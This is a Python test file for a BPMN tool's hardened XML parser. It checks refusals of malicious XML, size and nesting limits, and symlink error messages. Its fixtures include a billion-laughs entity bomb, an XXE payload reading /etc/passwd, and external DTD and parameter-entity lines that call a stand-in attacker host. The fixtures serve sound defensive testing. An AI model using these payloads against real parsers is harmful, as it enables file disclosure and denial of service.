"""Safe XML parsing: hostile files are refused with one clear line, nothing is fetched."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from zsa_sim.bpmn import read_bpmn
from zsa_sim.bpmn.safe_xml import (
    DEFAULT_MAX_BYTES,
    DEFAULT_MAX_DEPTH,
    parse_xml_bytes,
    parse_xml_file,
    read_limited,
)
from zsa_sim.errors import BpmnError

DTD_REFUSED = r"DTDs and entities are not allowed \(possible entity-expansion or XXE attack\)$"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
  <bpmn:process id="P" name="&lol9;" />
</bpmn:definitions>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [ <!ENTITY passwd SYSTEM "file:///etc/passwd"> ]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL">
  <process id="P"><documentation>&passwd;</documentation></process>
</definitions>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.invalid/evil.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" />
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote; ]>
<d/>
"""


def _write(tmp_path: Path, data: bytes, name: str = "model.bpmn") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_parses_well_formed_xml_into_elements(tmp_path: Path) -> None:
    root = parse_xml_file(_write(tmp_path, b'<a xmlns="urn:x"><b id="1"/></a>'))
    assert root.tag == "{urn:x}a"
    assert [child.get("id") for child in root] == ["1"]


def test_declared_encoding_is_honoured(tmp_path: Path) -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><a name="Prüfung"/>'.encode("latin-1")
    assert parse_xml_file(_write(tmp_path, data)).get("name") == "Prüfung"


def test_malformed_xml_names_file_line_and_column(tmp_path: Path) -> None:
    path = _write(tmp_path, b"<a>\n  <b>\n</a>\n", "broken.bpmn")
    with pytest.raises(
        BpmnError, match=r"broken\.bpmn: not well-formed XML at line 3, column 3: mismatched tag$"
    ):
        parse_xml_file(path)


def test_empty_file_is_malformed(tmp_path: Path) -> None:
    with pytest.raises(BpmnError, match=r"not well-formed XML at line 1, column 1: no element"):
        parse_xml_file(_write(tmp_path, b""))


def test_billion_laughs_is_refused(tmp_path: Path) -> None:
    path = _write(tmp_path, BILLION_LAUGHS, "bomb.bpmn")
    with pytest.raises(BpmnError, match=r"^\S*bomb\.bpmn: " + DTD_REFUSED) as caught:
        read_bpmn(path)
    assert "lol" not in str(caught.value)


def test_external_entity_is_refused_and_the_file_not_read(tmp_path: Path) -> None:
    path = _write(tmp_path, XXE, "xxe.bpmn")
    with pytest.raises(BpmnError, match=DTD_REFUSED) as caught:
        read_bpmn(path)
    assert "root:" not in str(caught.value)
    assert "passwd" not in str(caught.value)


@pytest.mark.parametrize("data", [EXTERNAL_DTD, PARAMETER_ENTITY], ids=["dtd", "parameter"])
def test_external_dtds_are_refused_without_network_access(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, data: bytes
) -> None:
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("the parser tried to open a network connection")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    with pytest.raises(BpmnError, match=DTD_REFUSED):
        parse_xml_file(_write(tmp_path, data))


def test_even_a_harmless_doctype_is_refused(tmp_path: Path) -> None:
    data = b'<?xml version="1.0"?><!DOCTYPE definitions><definitions/>'
    with pytest.raises(BpmnError, match=DTD_REFUSED):
        parse_xml_file(_write(tmp_path, data))


def test_oversized_file_is_refused_before_parsing(tmp_path: Path) -> None:
    # Malformed and too big: the size error shows that nothing was parsed.
    path = _write(tmp_path, b"<a>" + b"x" * 197, "big.bpmn")
    with pytest.raises(
        BpmnError,
        match=r"big\.bpmn: file is 200 bytes, more than the limit of 100 bytes; refusing",
    ):
        read_bpmn(path, max_bytes=100)


def test_file_at_the_size_limit_is_read(tmp_path: Path) -> None:
    data = b"<a>" + b"x" * 93 + b"</a>"
    assert len(data) == 100
    assert read_limited(_write(tmp_path, data), max_bytes=100) == data


def test_default_limits() -> None:
    assert DEFAULT_MAX_BYTES == 20 * 1024 * 1024
    assert DEFAULT_MAX_DEPTH == 200


def test_nesting_deeper_than_the_limit_is_refused() -> None:
    too_deep = b"<a>" * 201 + b"</a>" * 201
    with pytest.raises(
        BpmnError, match=r"deep\.bpmn: elements are nested more than 200 levels deep \(line 1\)"
    ):
        parse_xml_bytes(too_deep, source="deep.bpmn")


def test_nesting_at_the_limit_is_fine() -> None:
    root = parse_xml_bytes(b"<a>" * 200 + b"</a>" * 200, source="ok.bpmn")
    depth = 1
    while len(root):
        root = root[0]
        depth += 1
    assert depth == 200


def test_nesting_limit_is_configurable() -> None:
    with pytest.raises(BpmnError, match="more than 2 levels deep"):
        parse_xml_bytes(b"<a><b><c/></b></a>", source="x", max_depth=2)


def test_missing_file_is_named(tmp_path: Path) -> None:
    path = tmp_path / "nope.bpmn"
    with pytest.raises(BpmnError, match=r"nope\.bpmn: file not found$"):
        read_bpmn(path)


def test_directory_is_refused(tmp_path: Path) -> None:
    with pytest.raises(BpmnError, match=r": is a directory, not a BPMN file$"):
        read_bpmn(tmp_path)


def test_unreadable_file_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = _write(tmp_path, b"<a/>", "secret.bpmn")

    def refuse(self: Path, *args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "open", refuse)  # chmod does not stop root
    with pytest.raises(BpmnError, match=r"secret\.bpmn: cannot read file: Permission denied$"):
        read_bpmn(path)


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, XXE, b"<a>\n<b></a>", b"<a>" * 300], ids=["bomb", "xxe", "bad", "deep"]
)
def test_every_refusal_is_one_line_with_its_cause_chained(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(BpmnError) as caught:
        parse_xml_file(_write(tmp_path, data))
    assert "\n" not in str(caught.value)
    assert caught.value.__cause__ is not None


def test_a_symbolic_link_loop_is_named_not_called_missing(tmp_path: Path) -> None:
    # issue 14 item 11: a loop is no "file not found", for the model and its siblings
    (tmp_path / "a.bpmn").symlink_to(tmp_path / "b.bpmn")
    (tmp_path / "b.bpmn").symlink_to(tmp_path / "a.bpmn")
    with pytest.raises(BpmnError, match=r"a\.bpmn: a loop of symbolic links$"):
        read_bpmn(tmp_path / "a.bpmn")


def test_a_broken_symbolic_link_says_so(tmp_path: Path) -> None:
    (tmp_path / "link.bpmn").symlink_to(tmp_path / "nowhere.bpmn")
    with pytest.raises(BpmnError, match=r"a symbolic link to a file that does not exist$"):
        read_bpmn(tmp_path / "link.bpmn")
    with pytest.raises(BpmnError, match=r"missing\.bpmn: file not found$"):
        read_bpmn(tmp_path / "missing.bpmn")
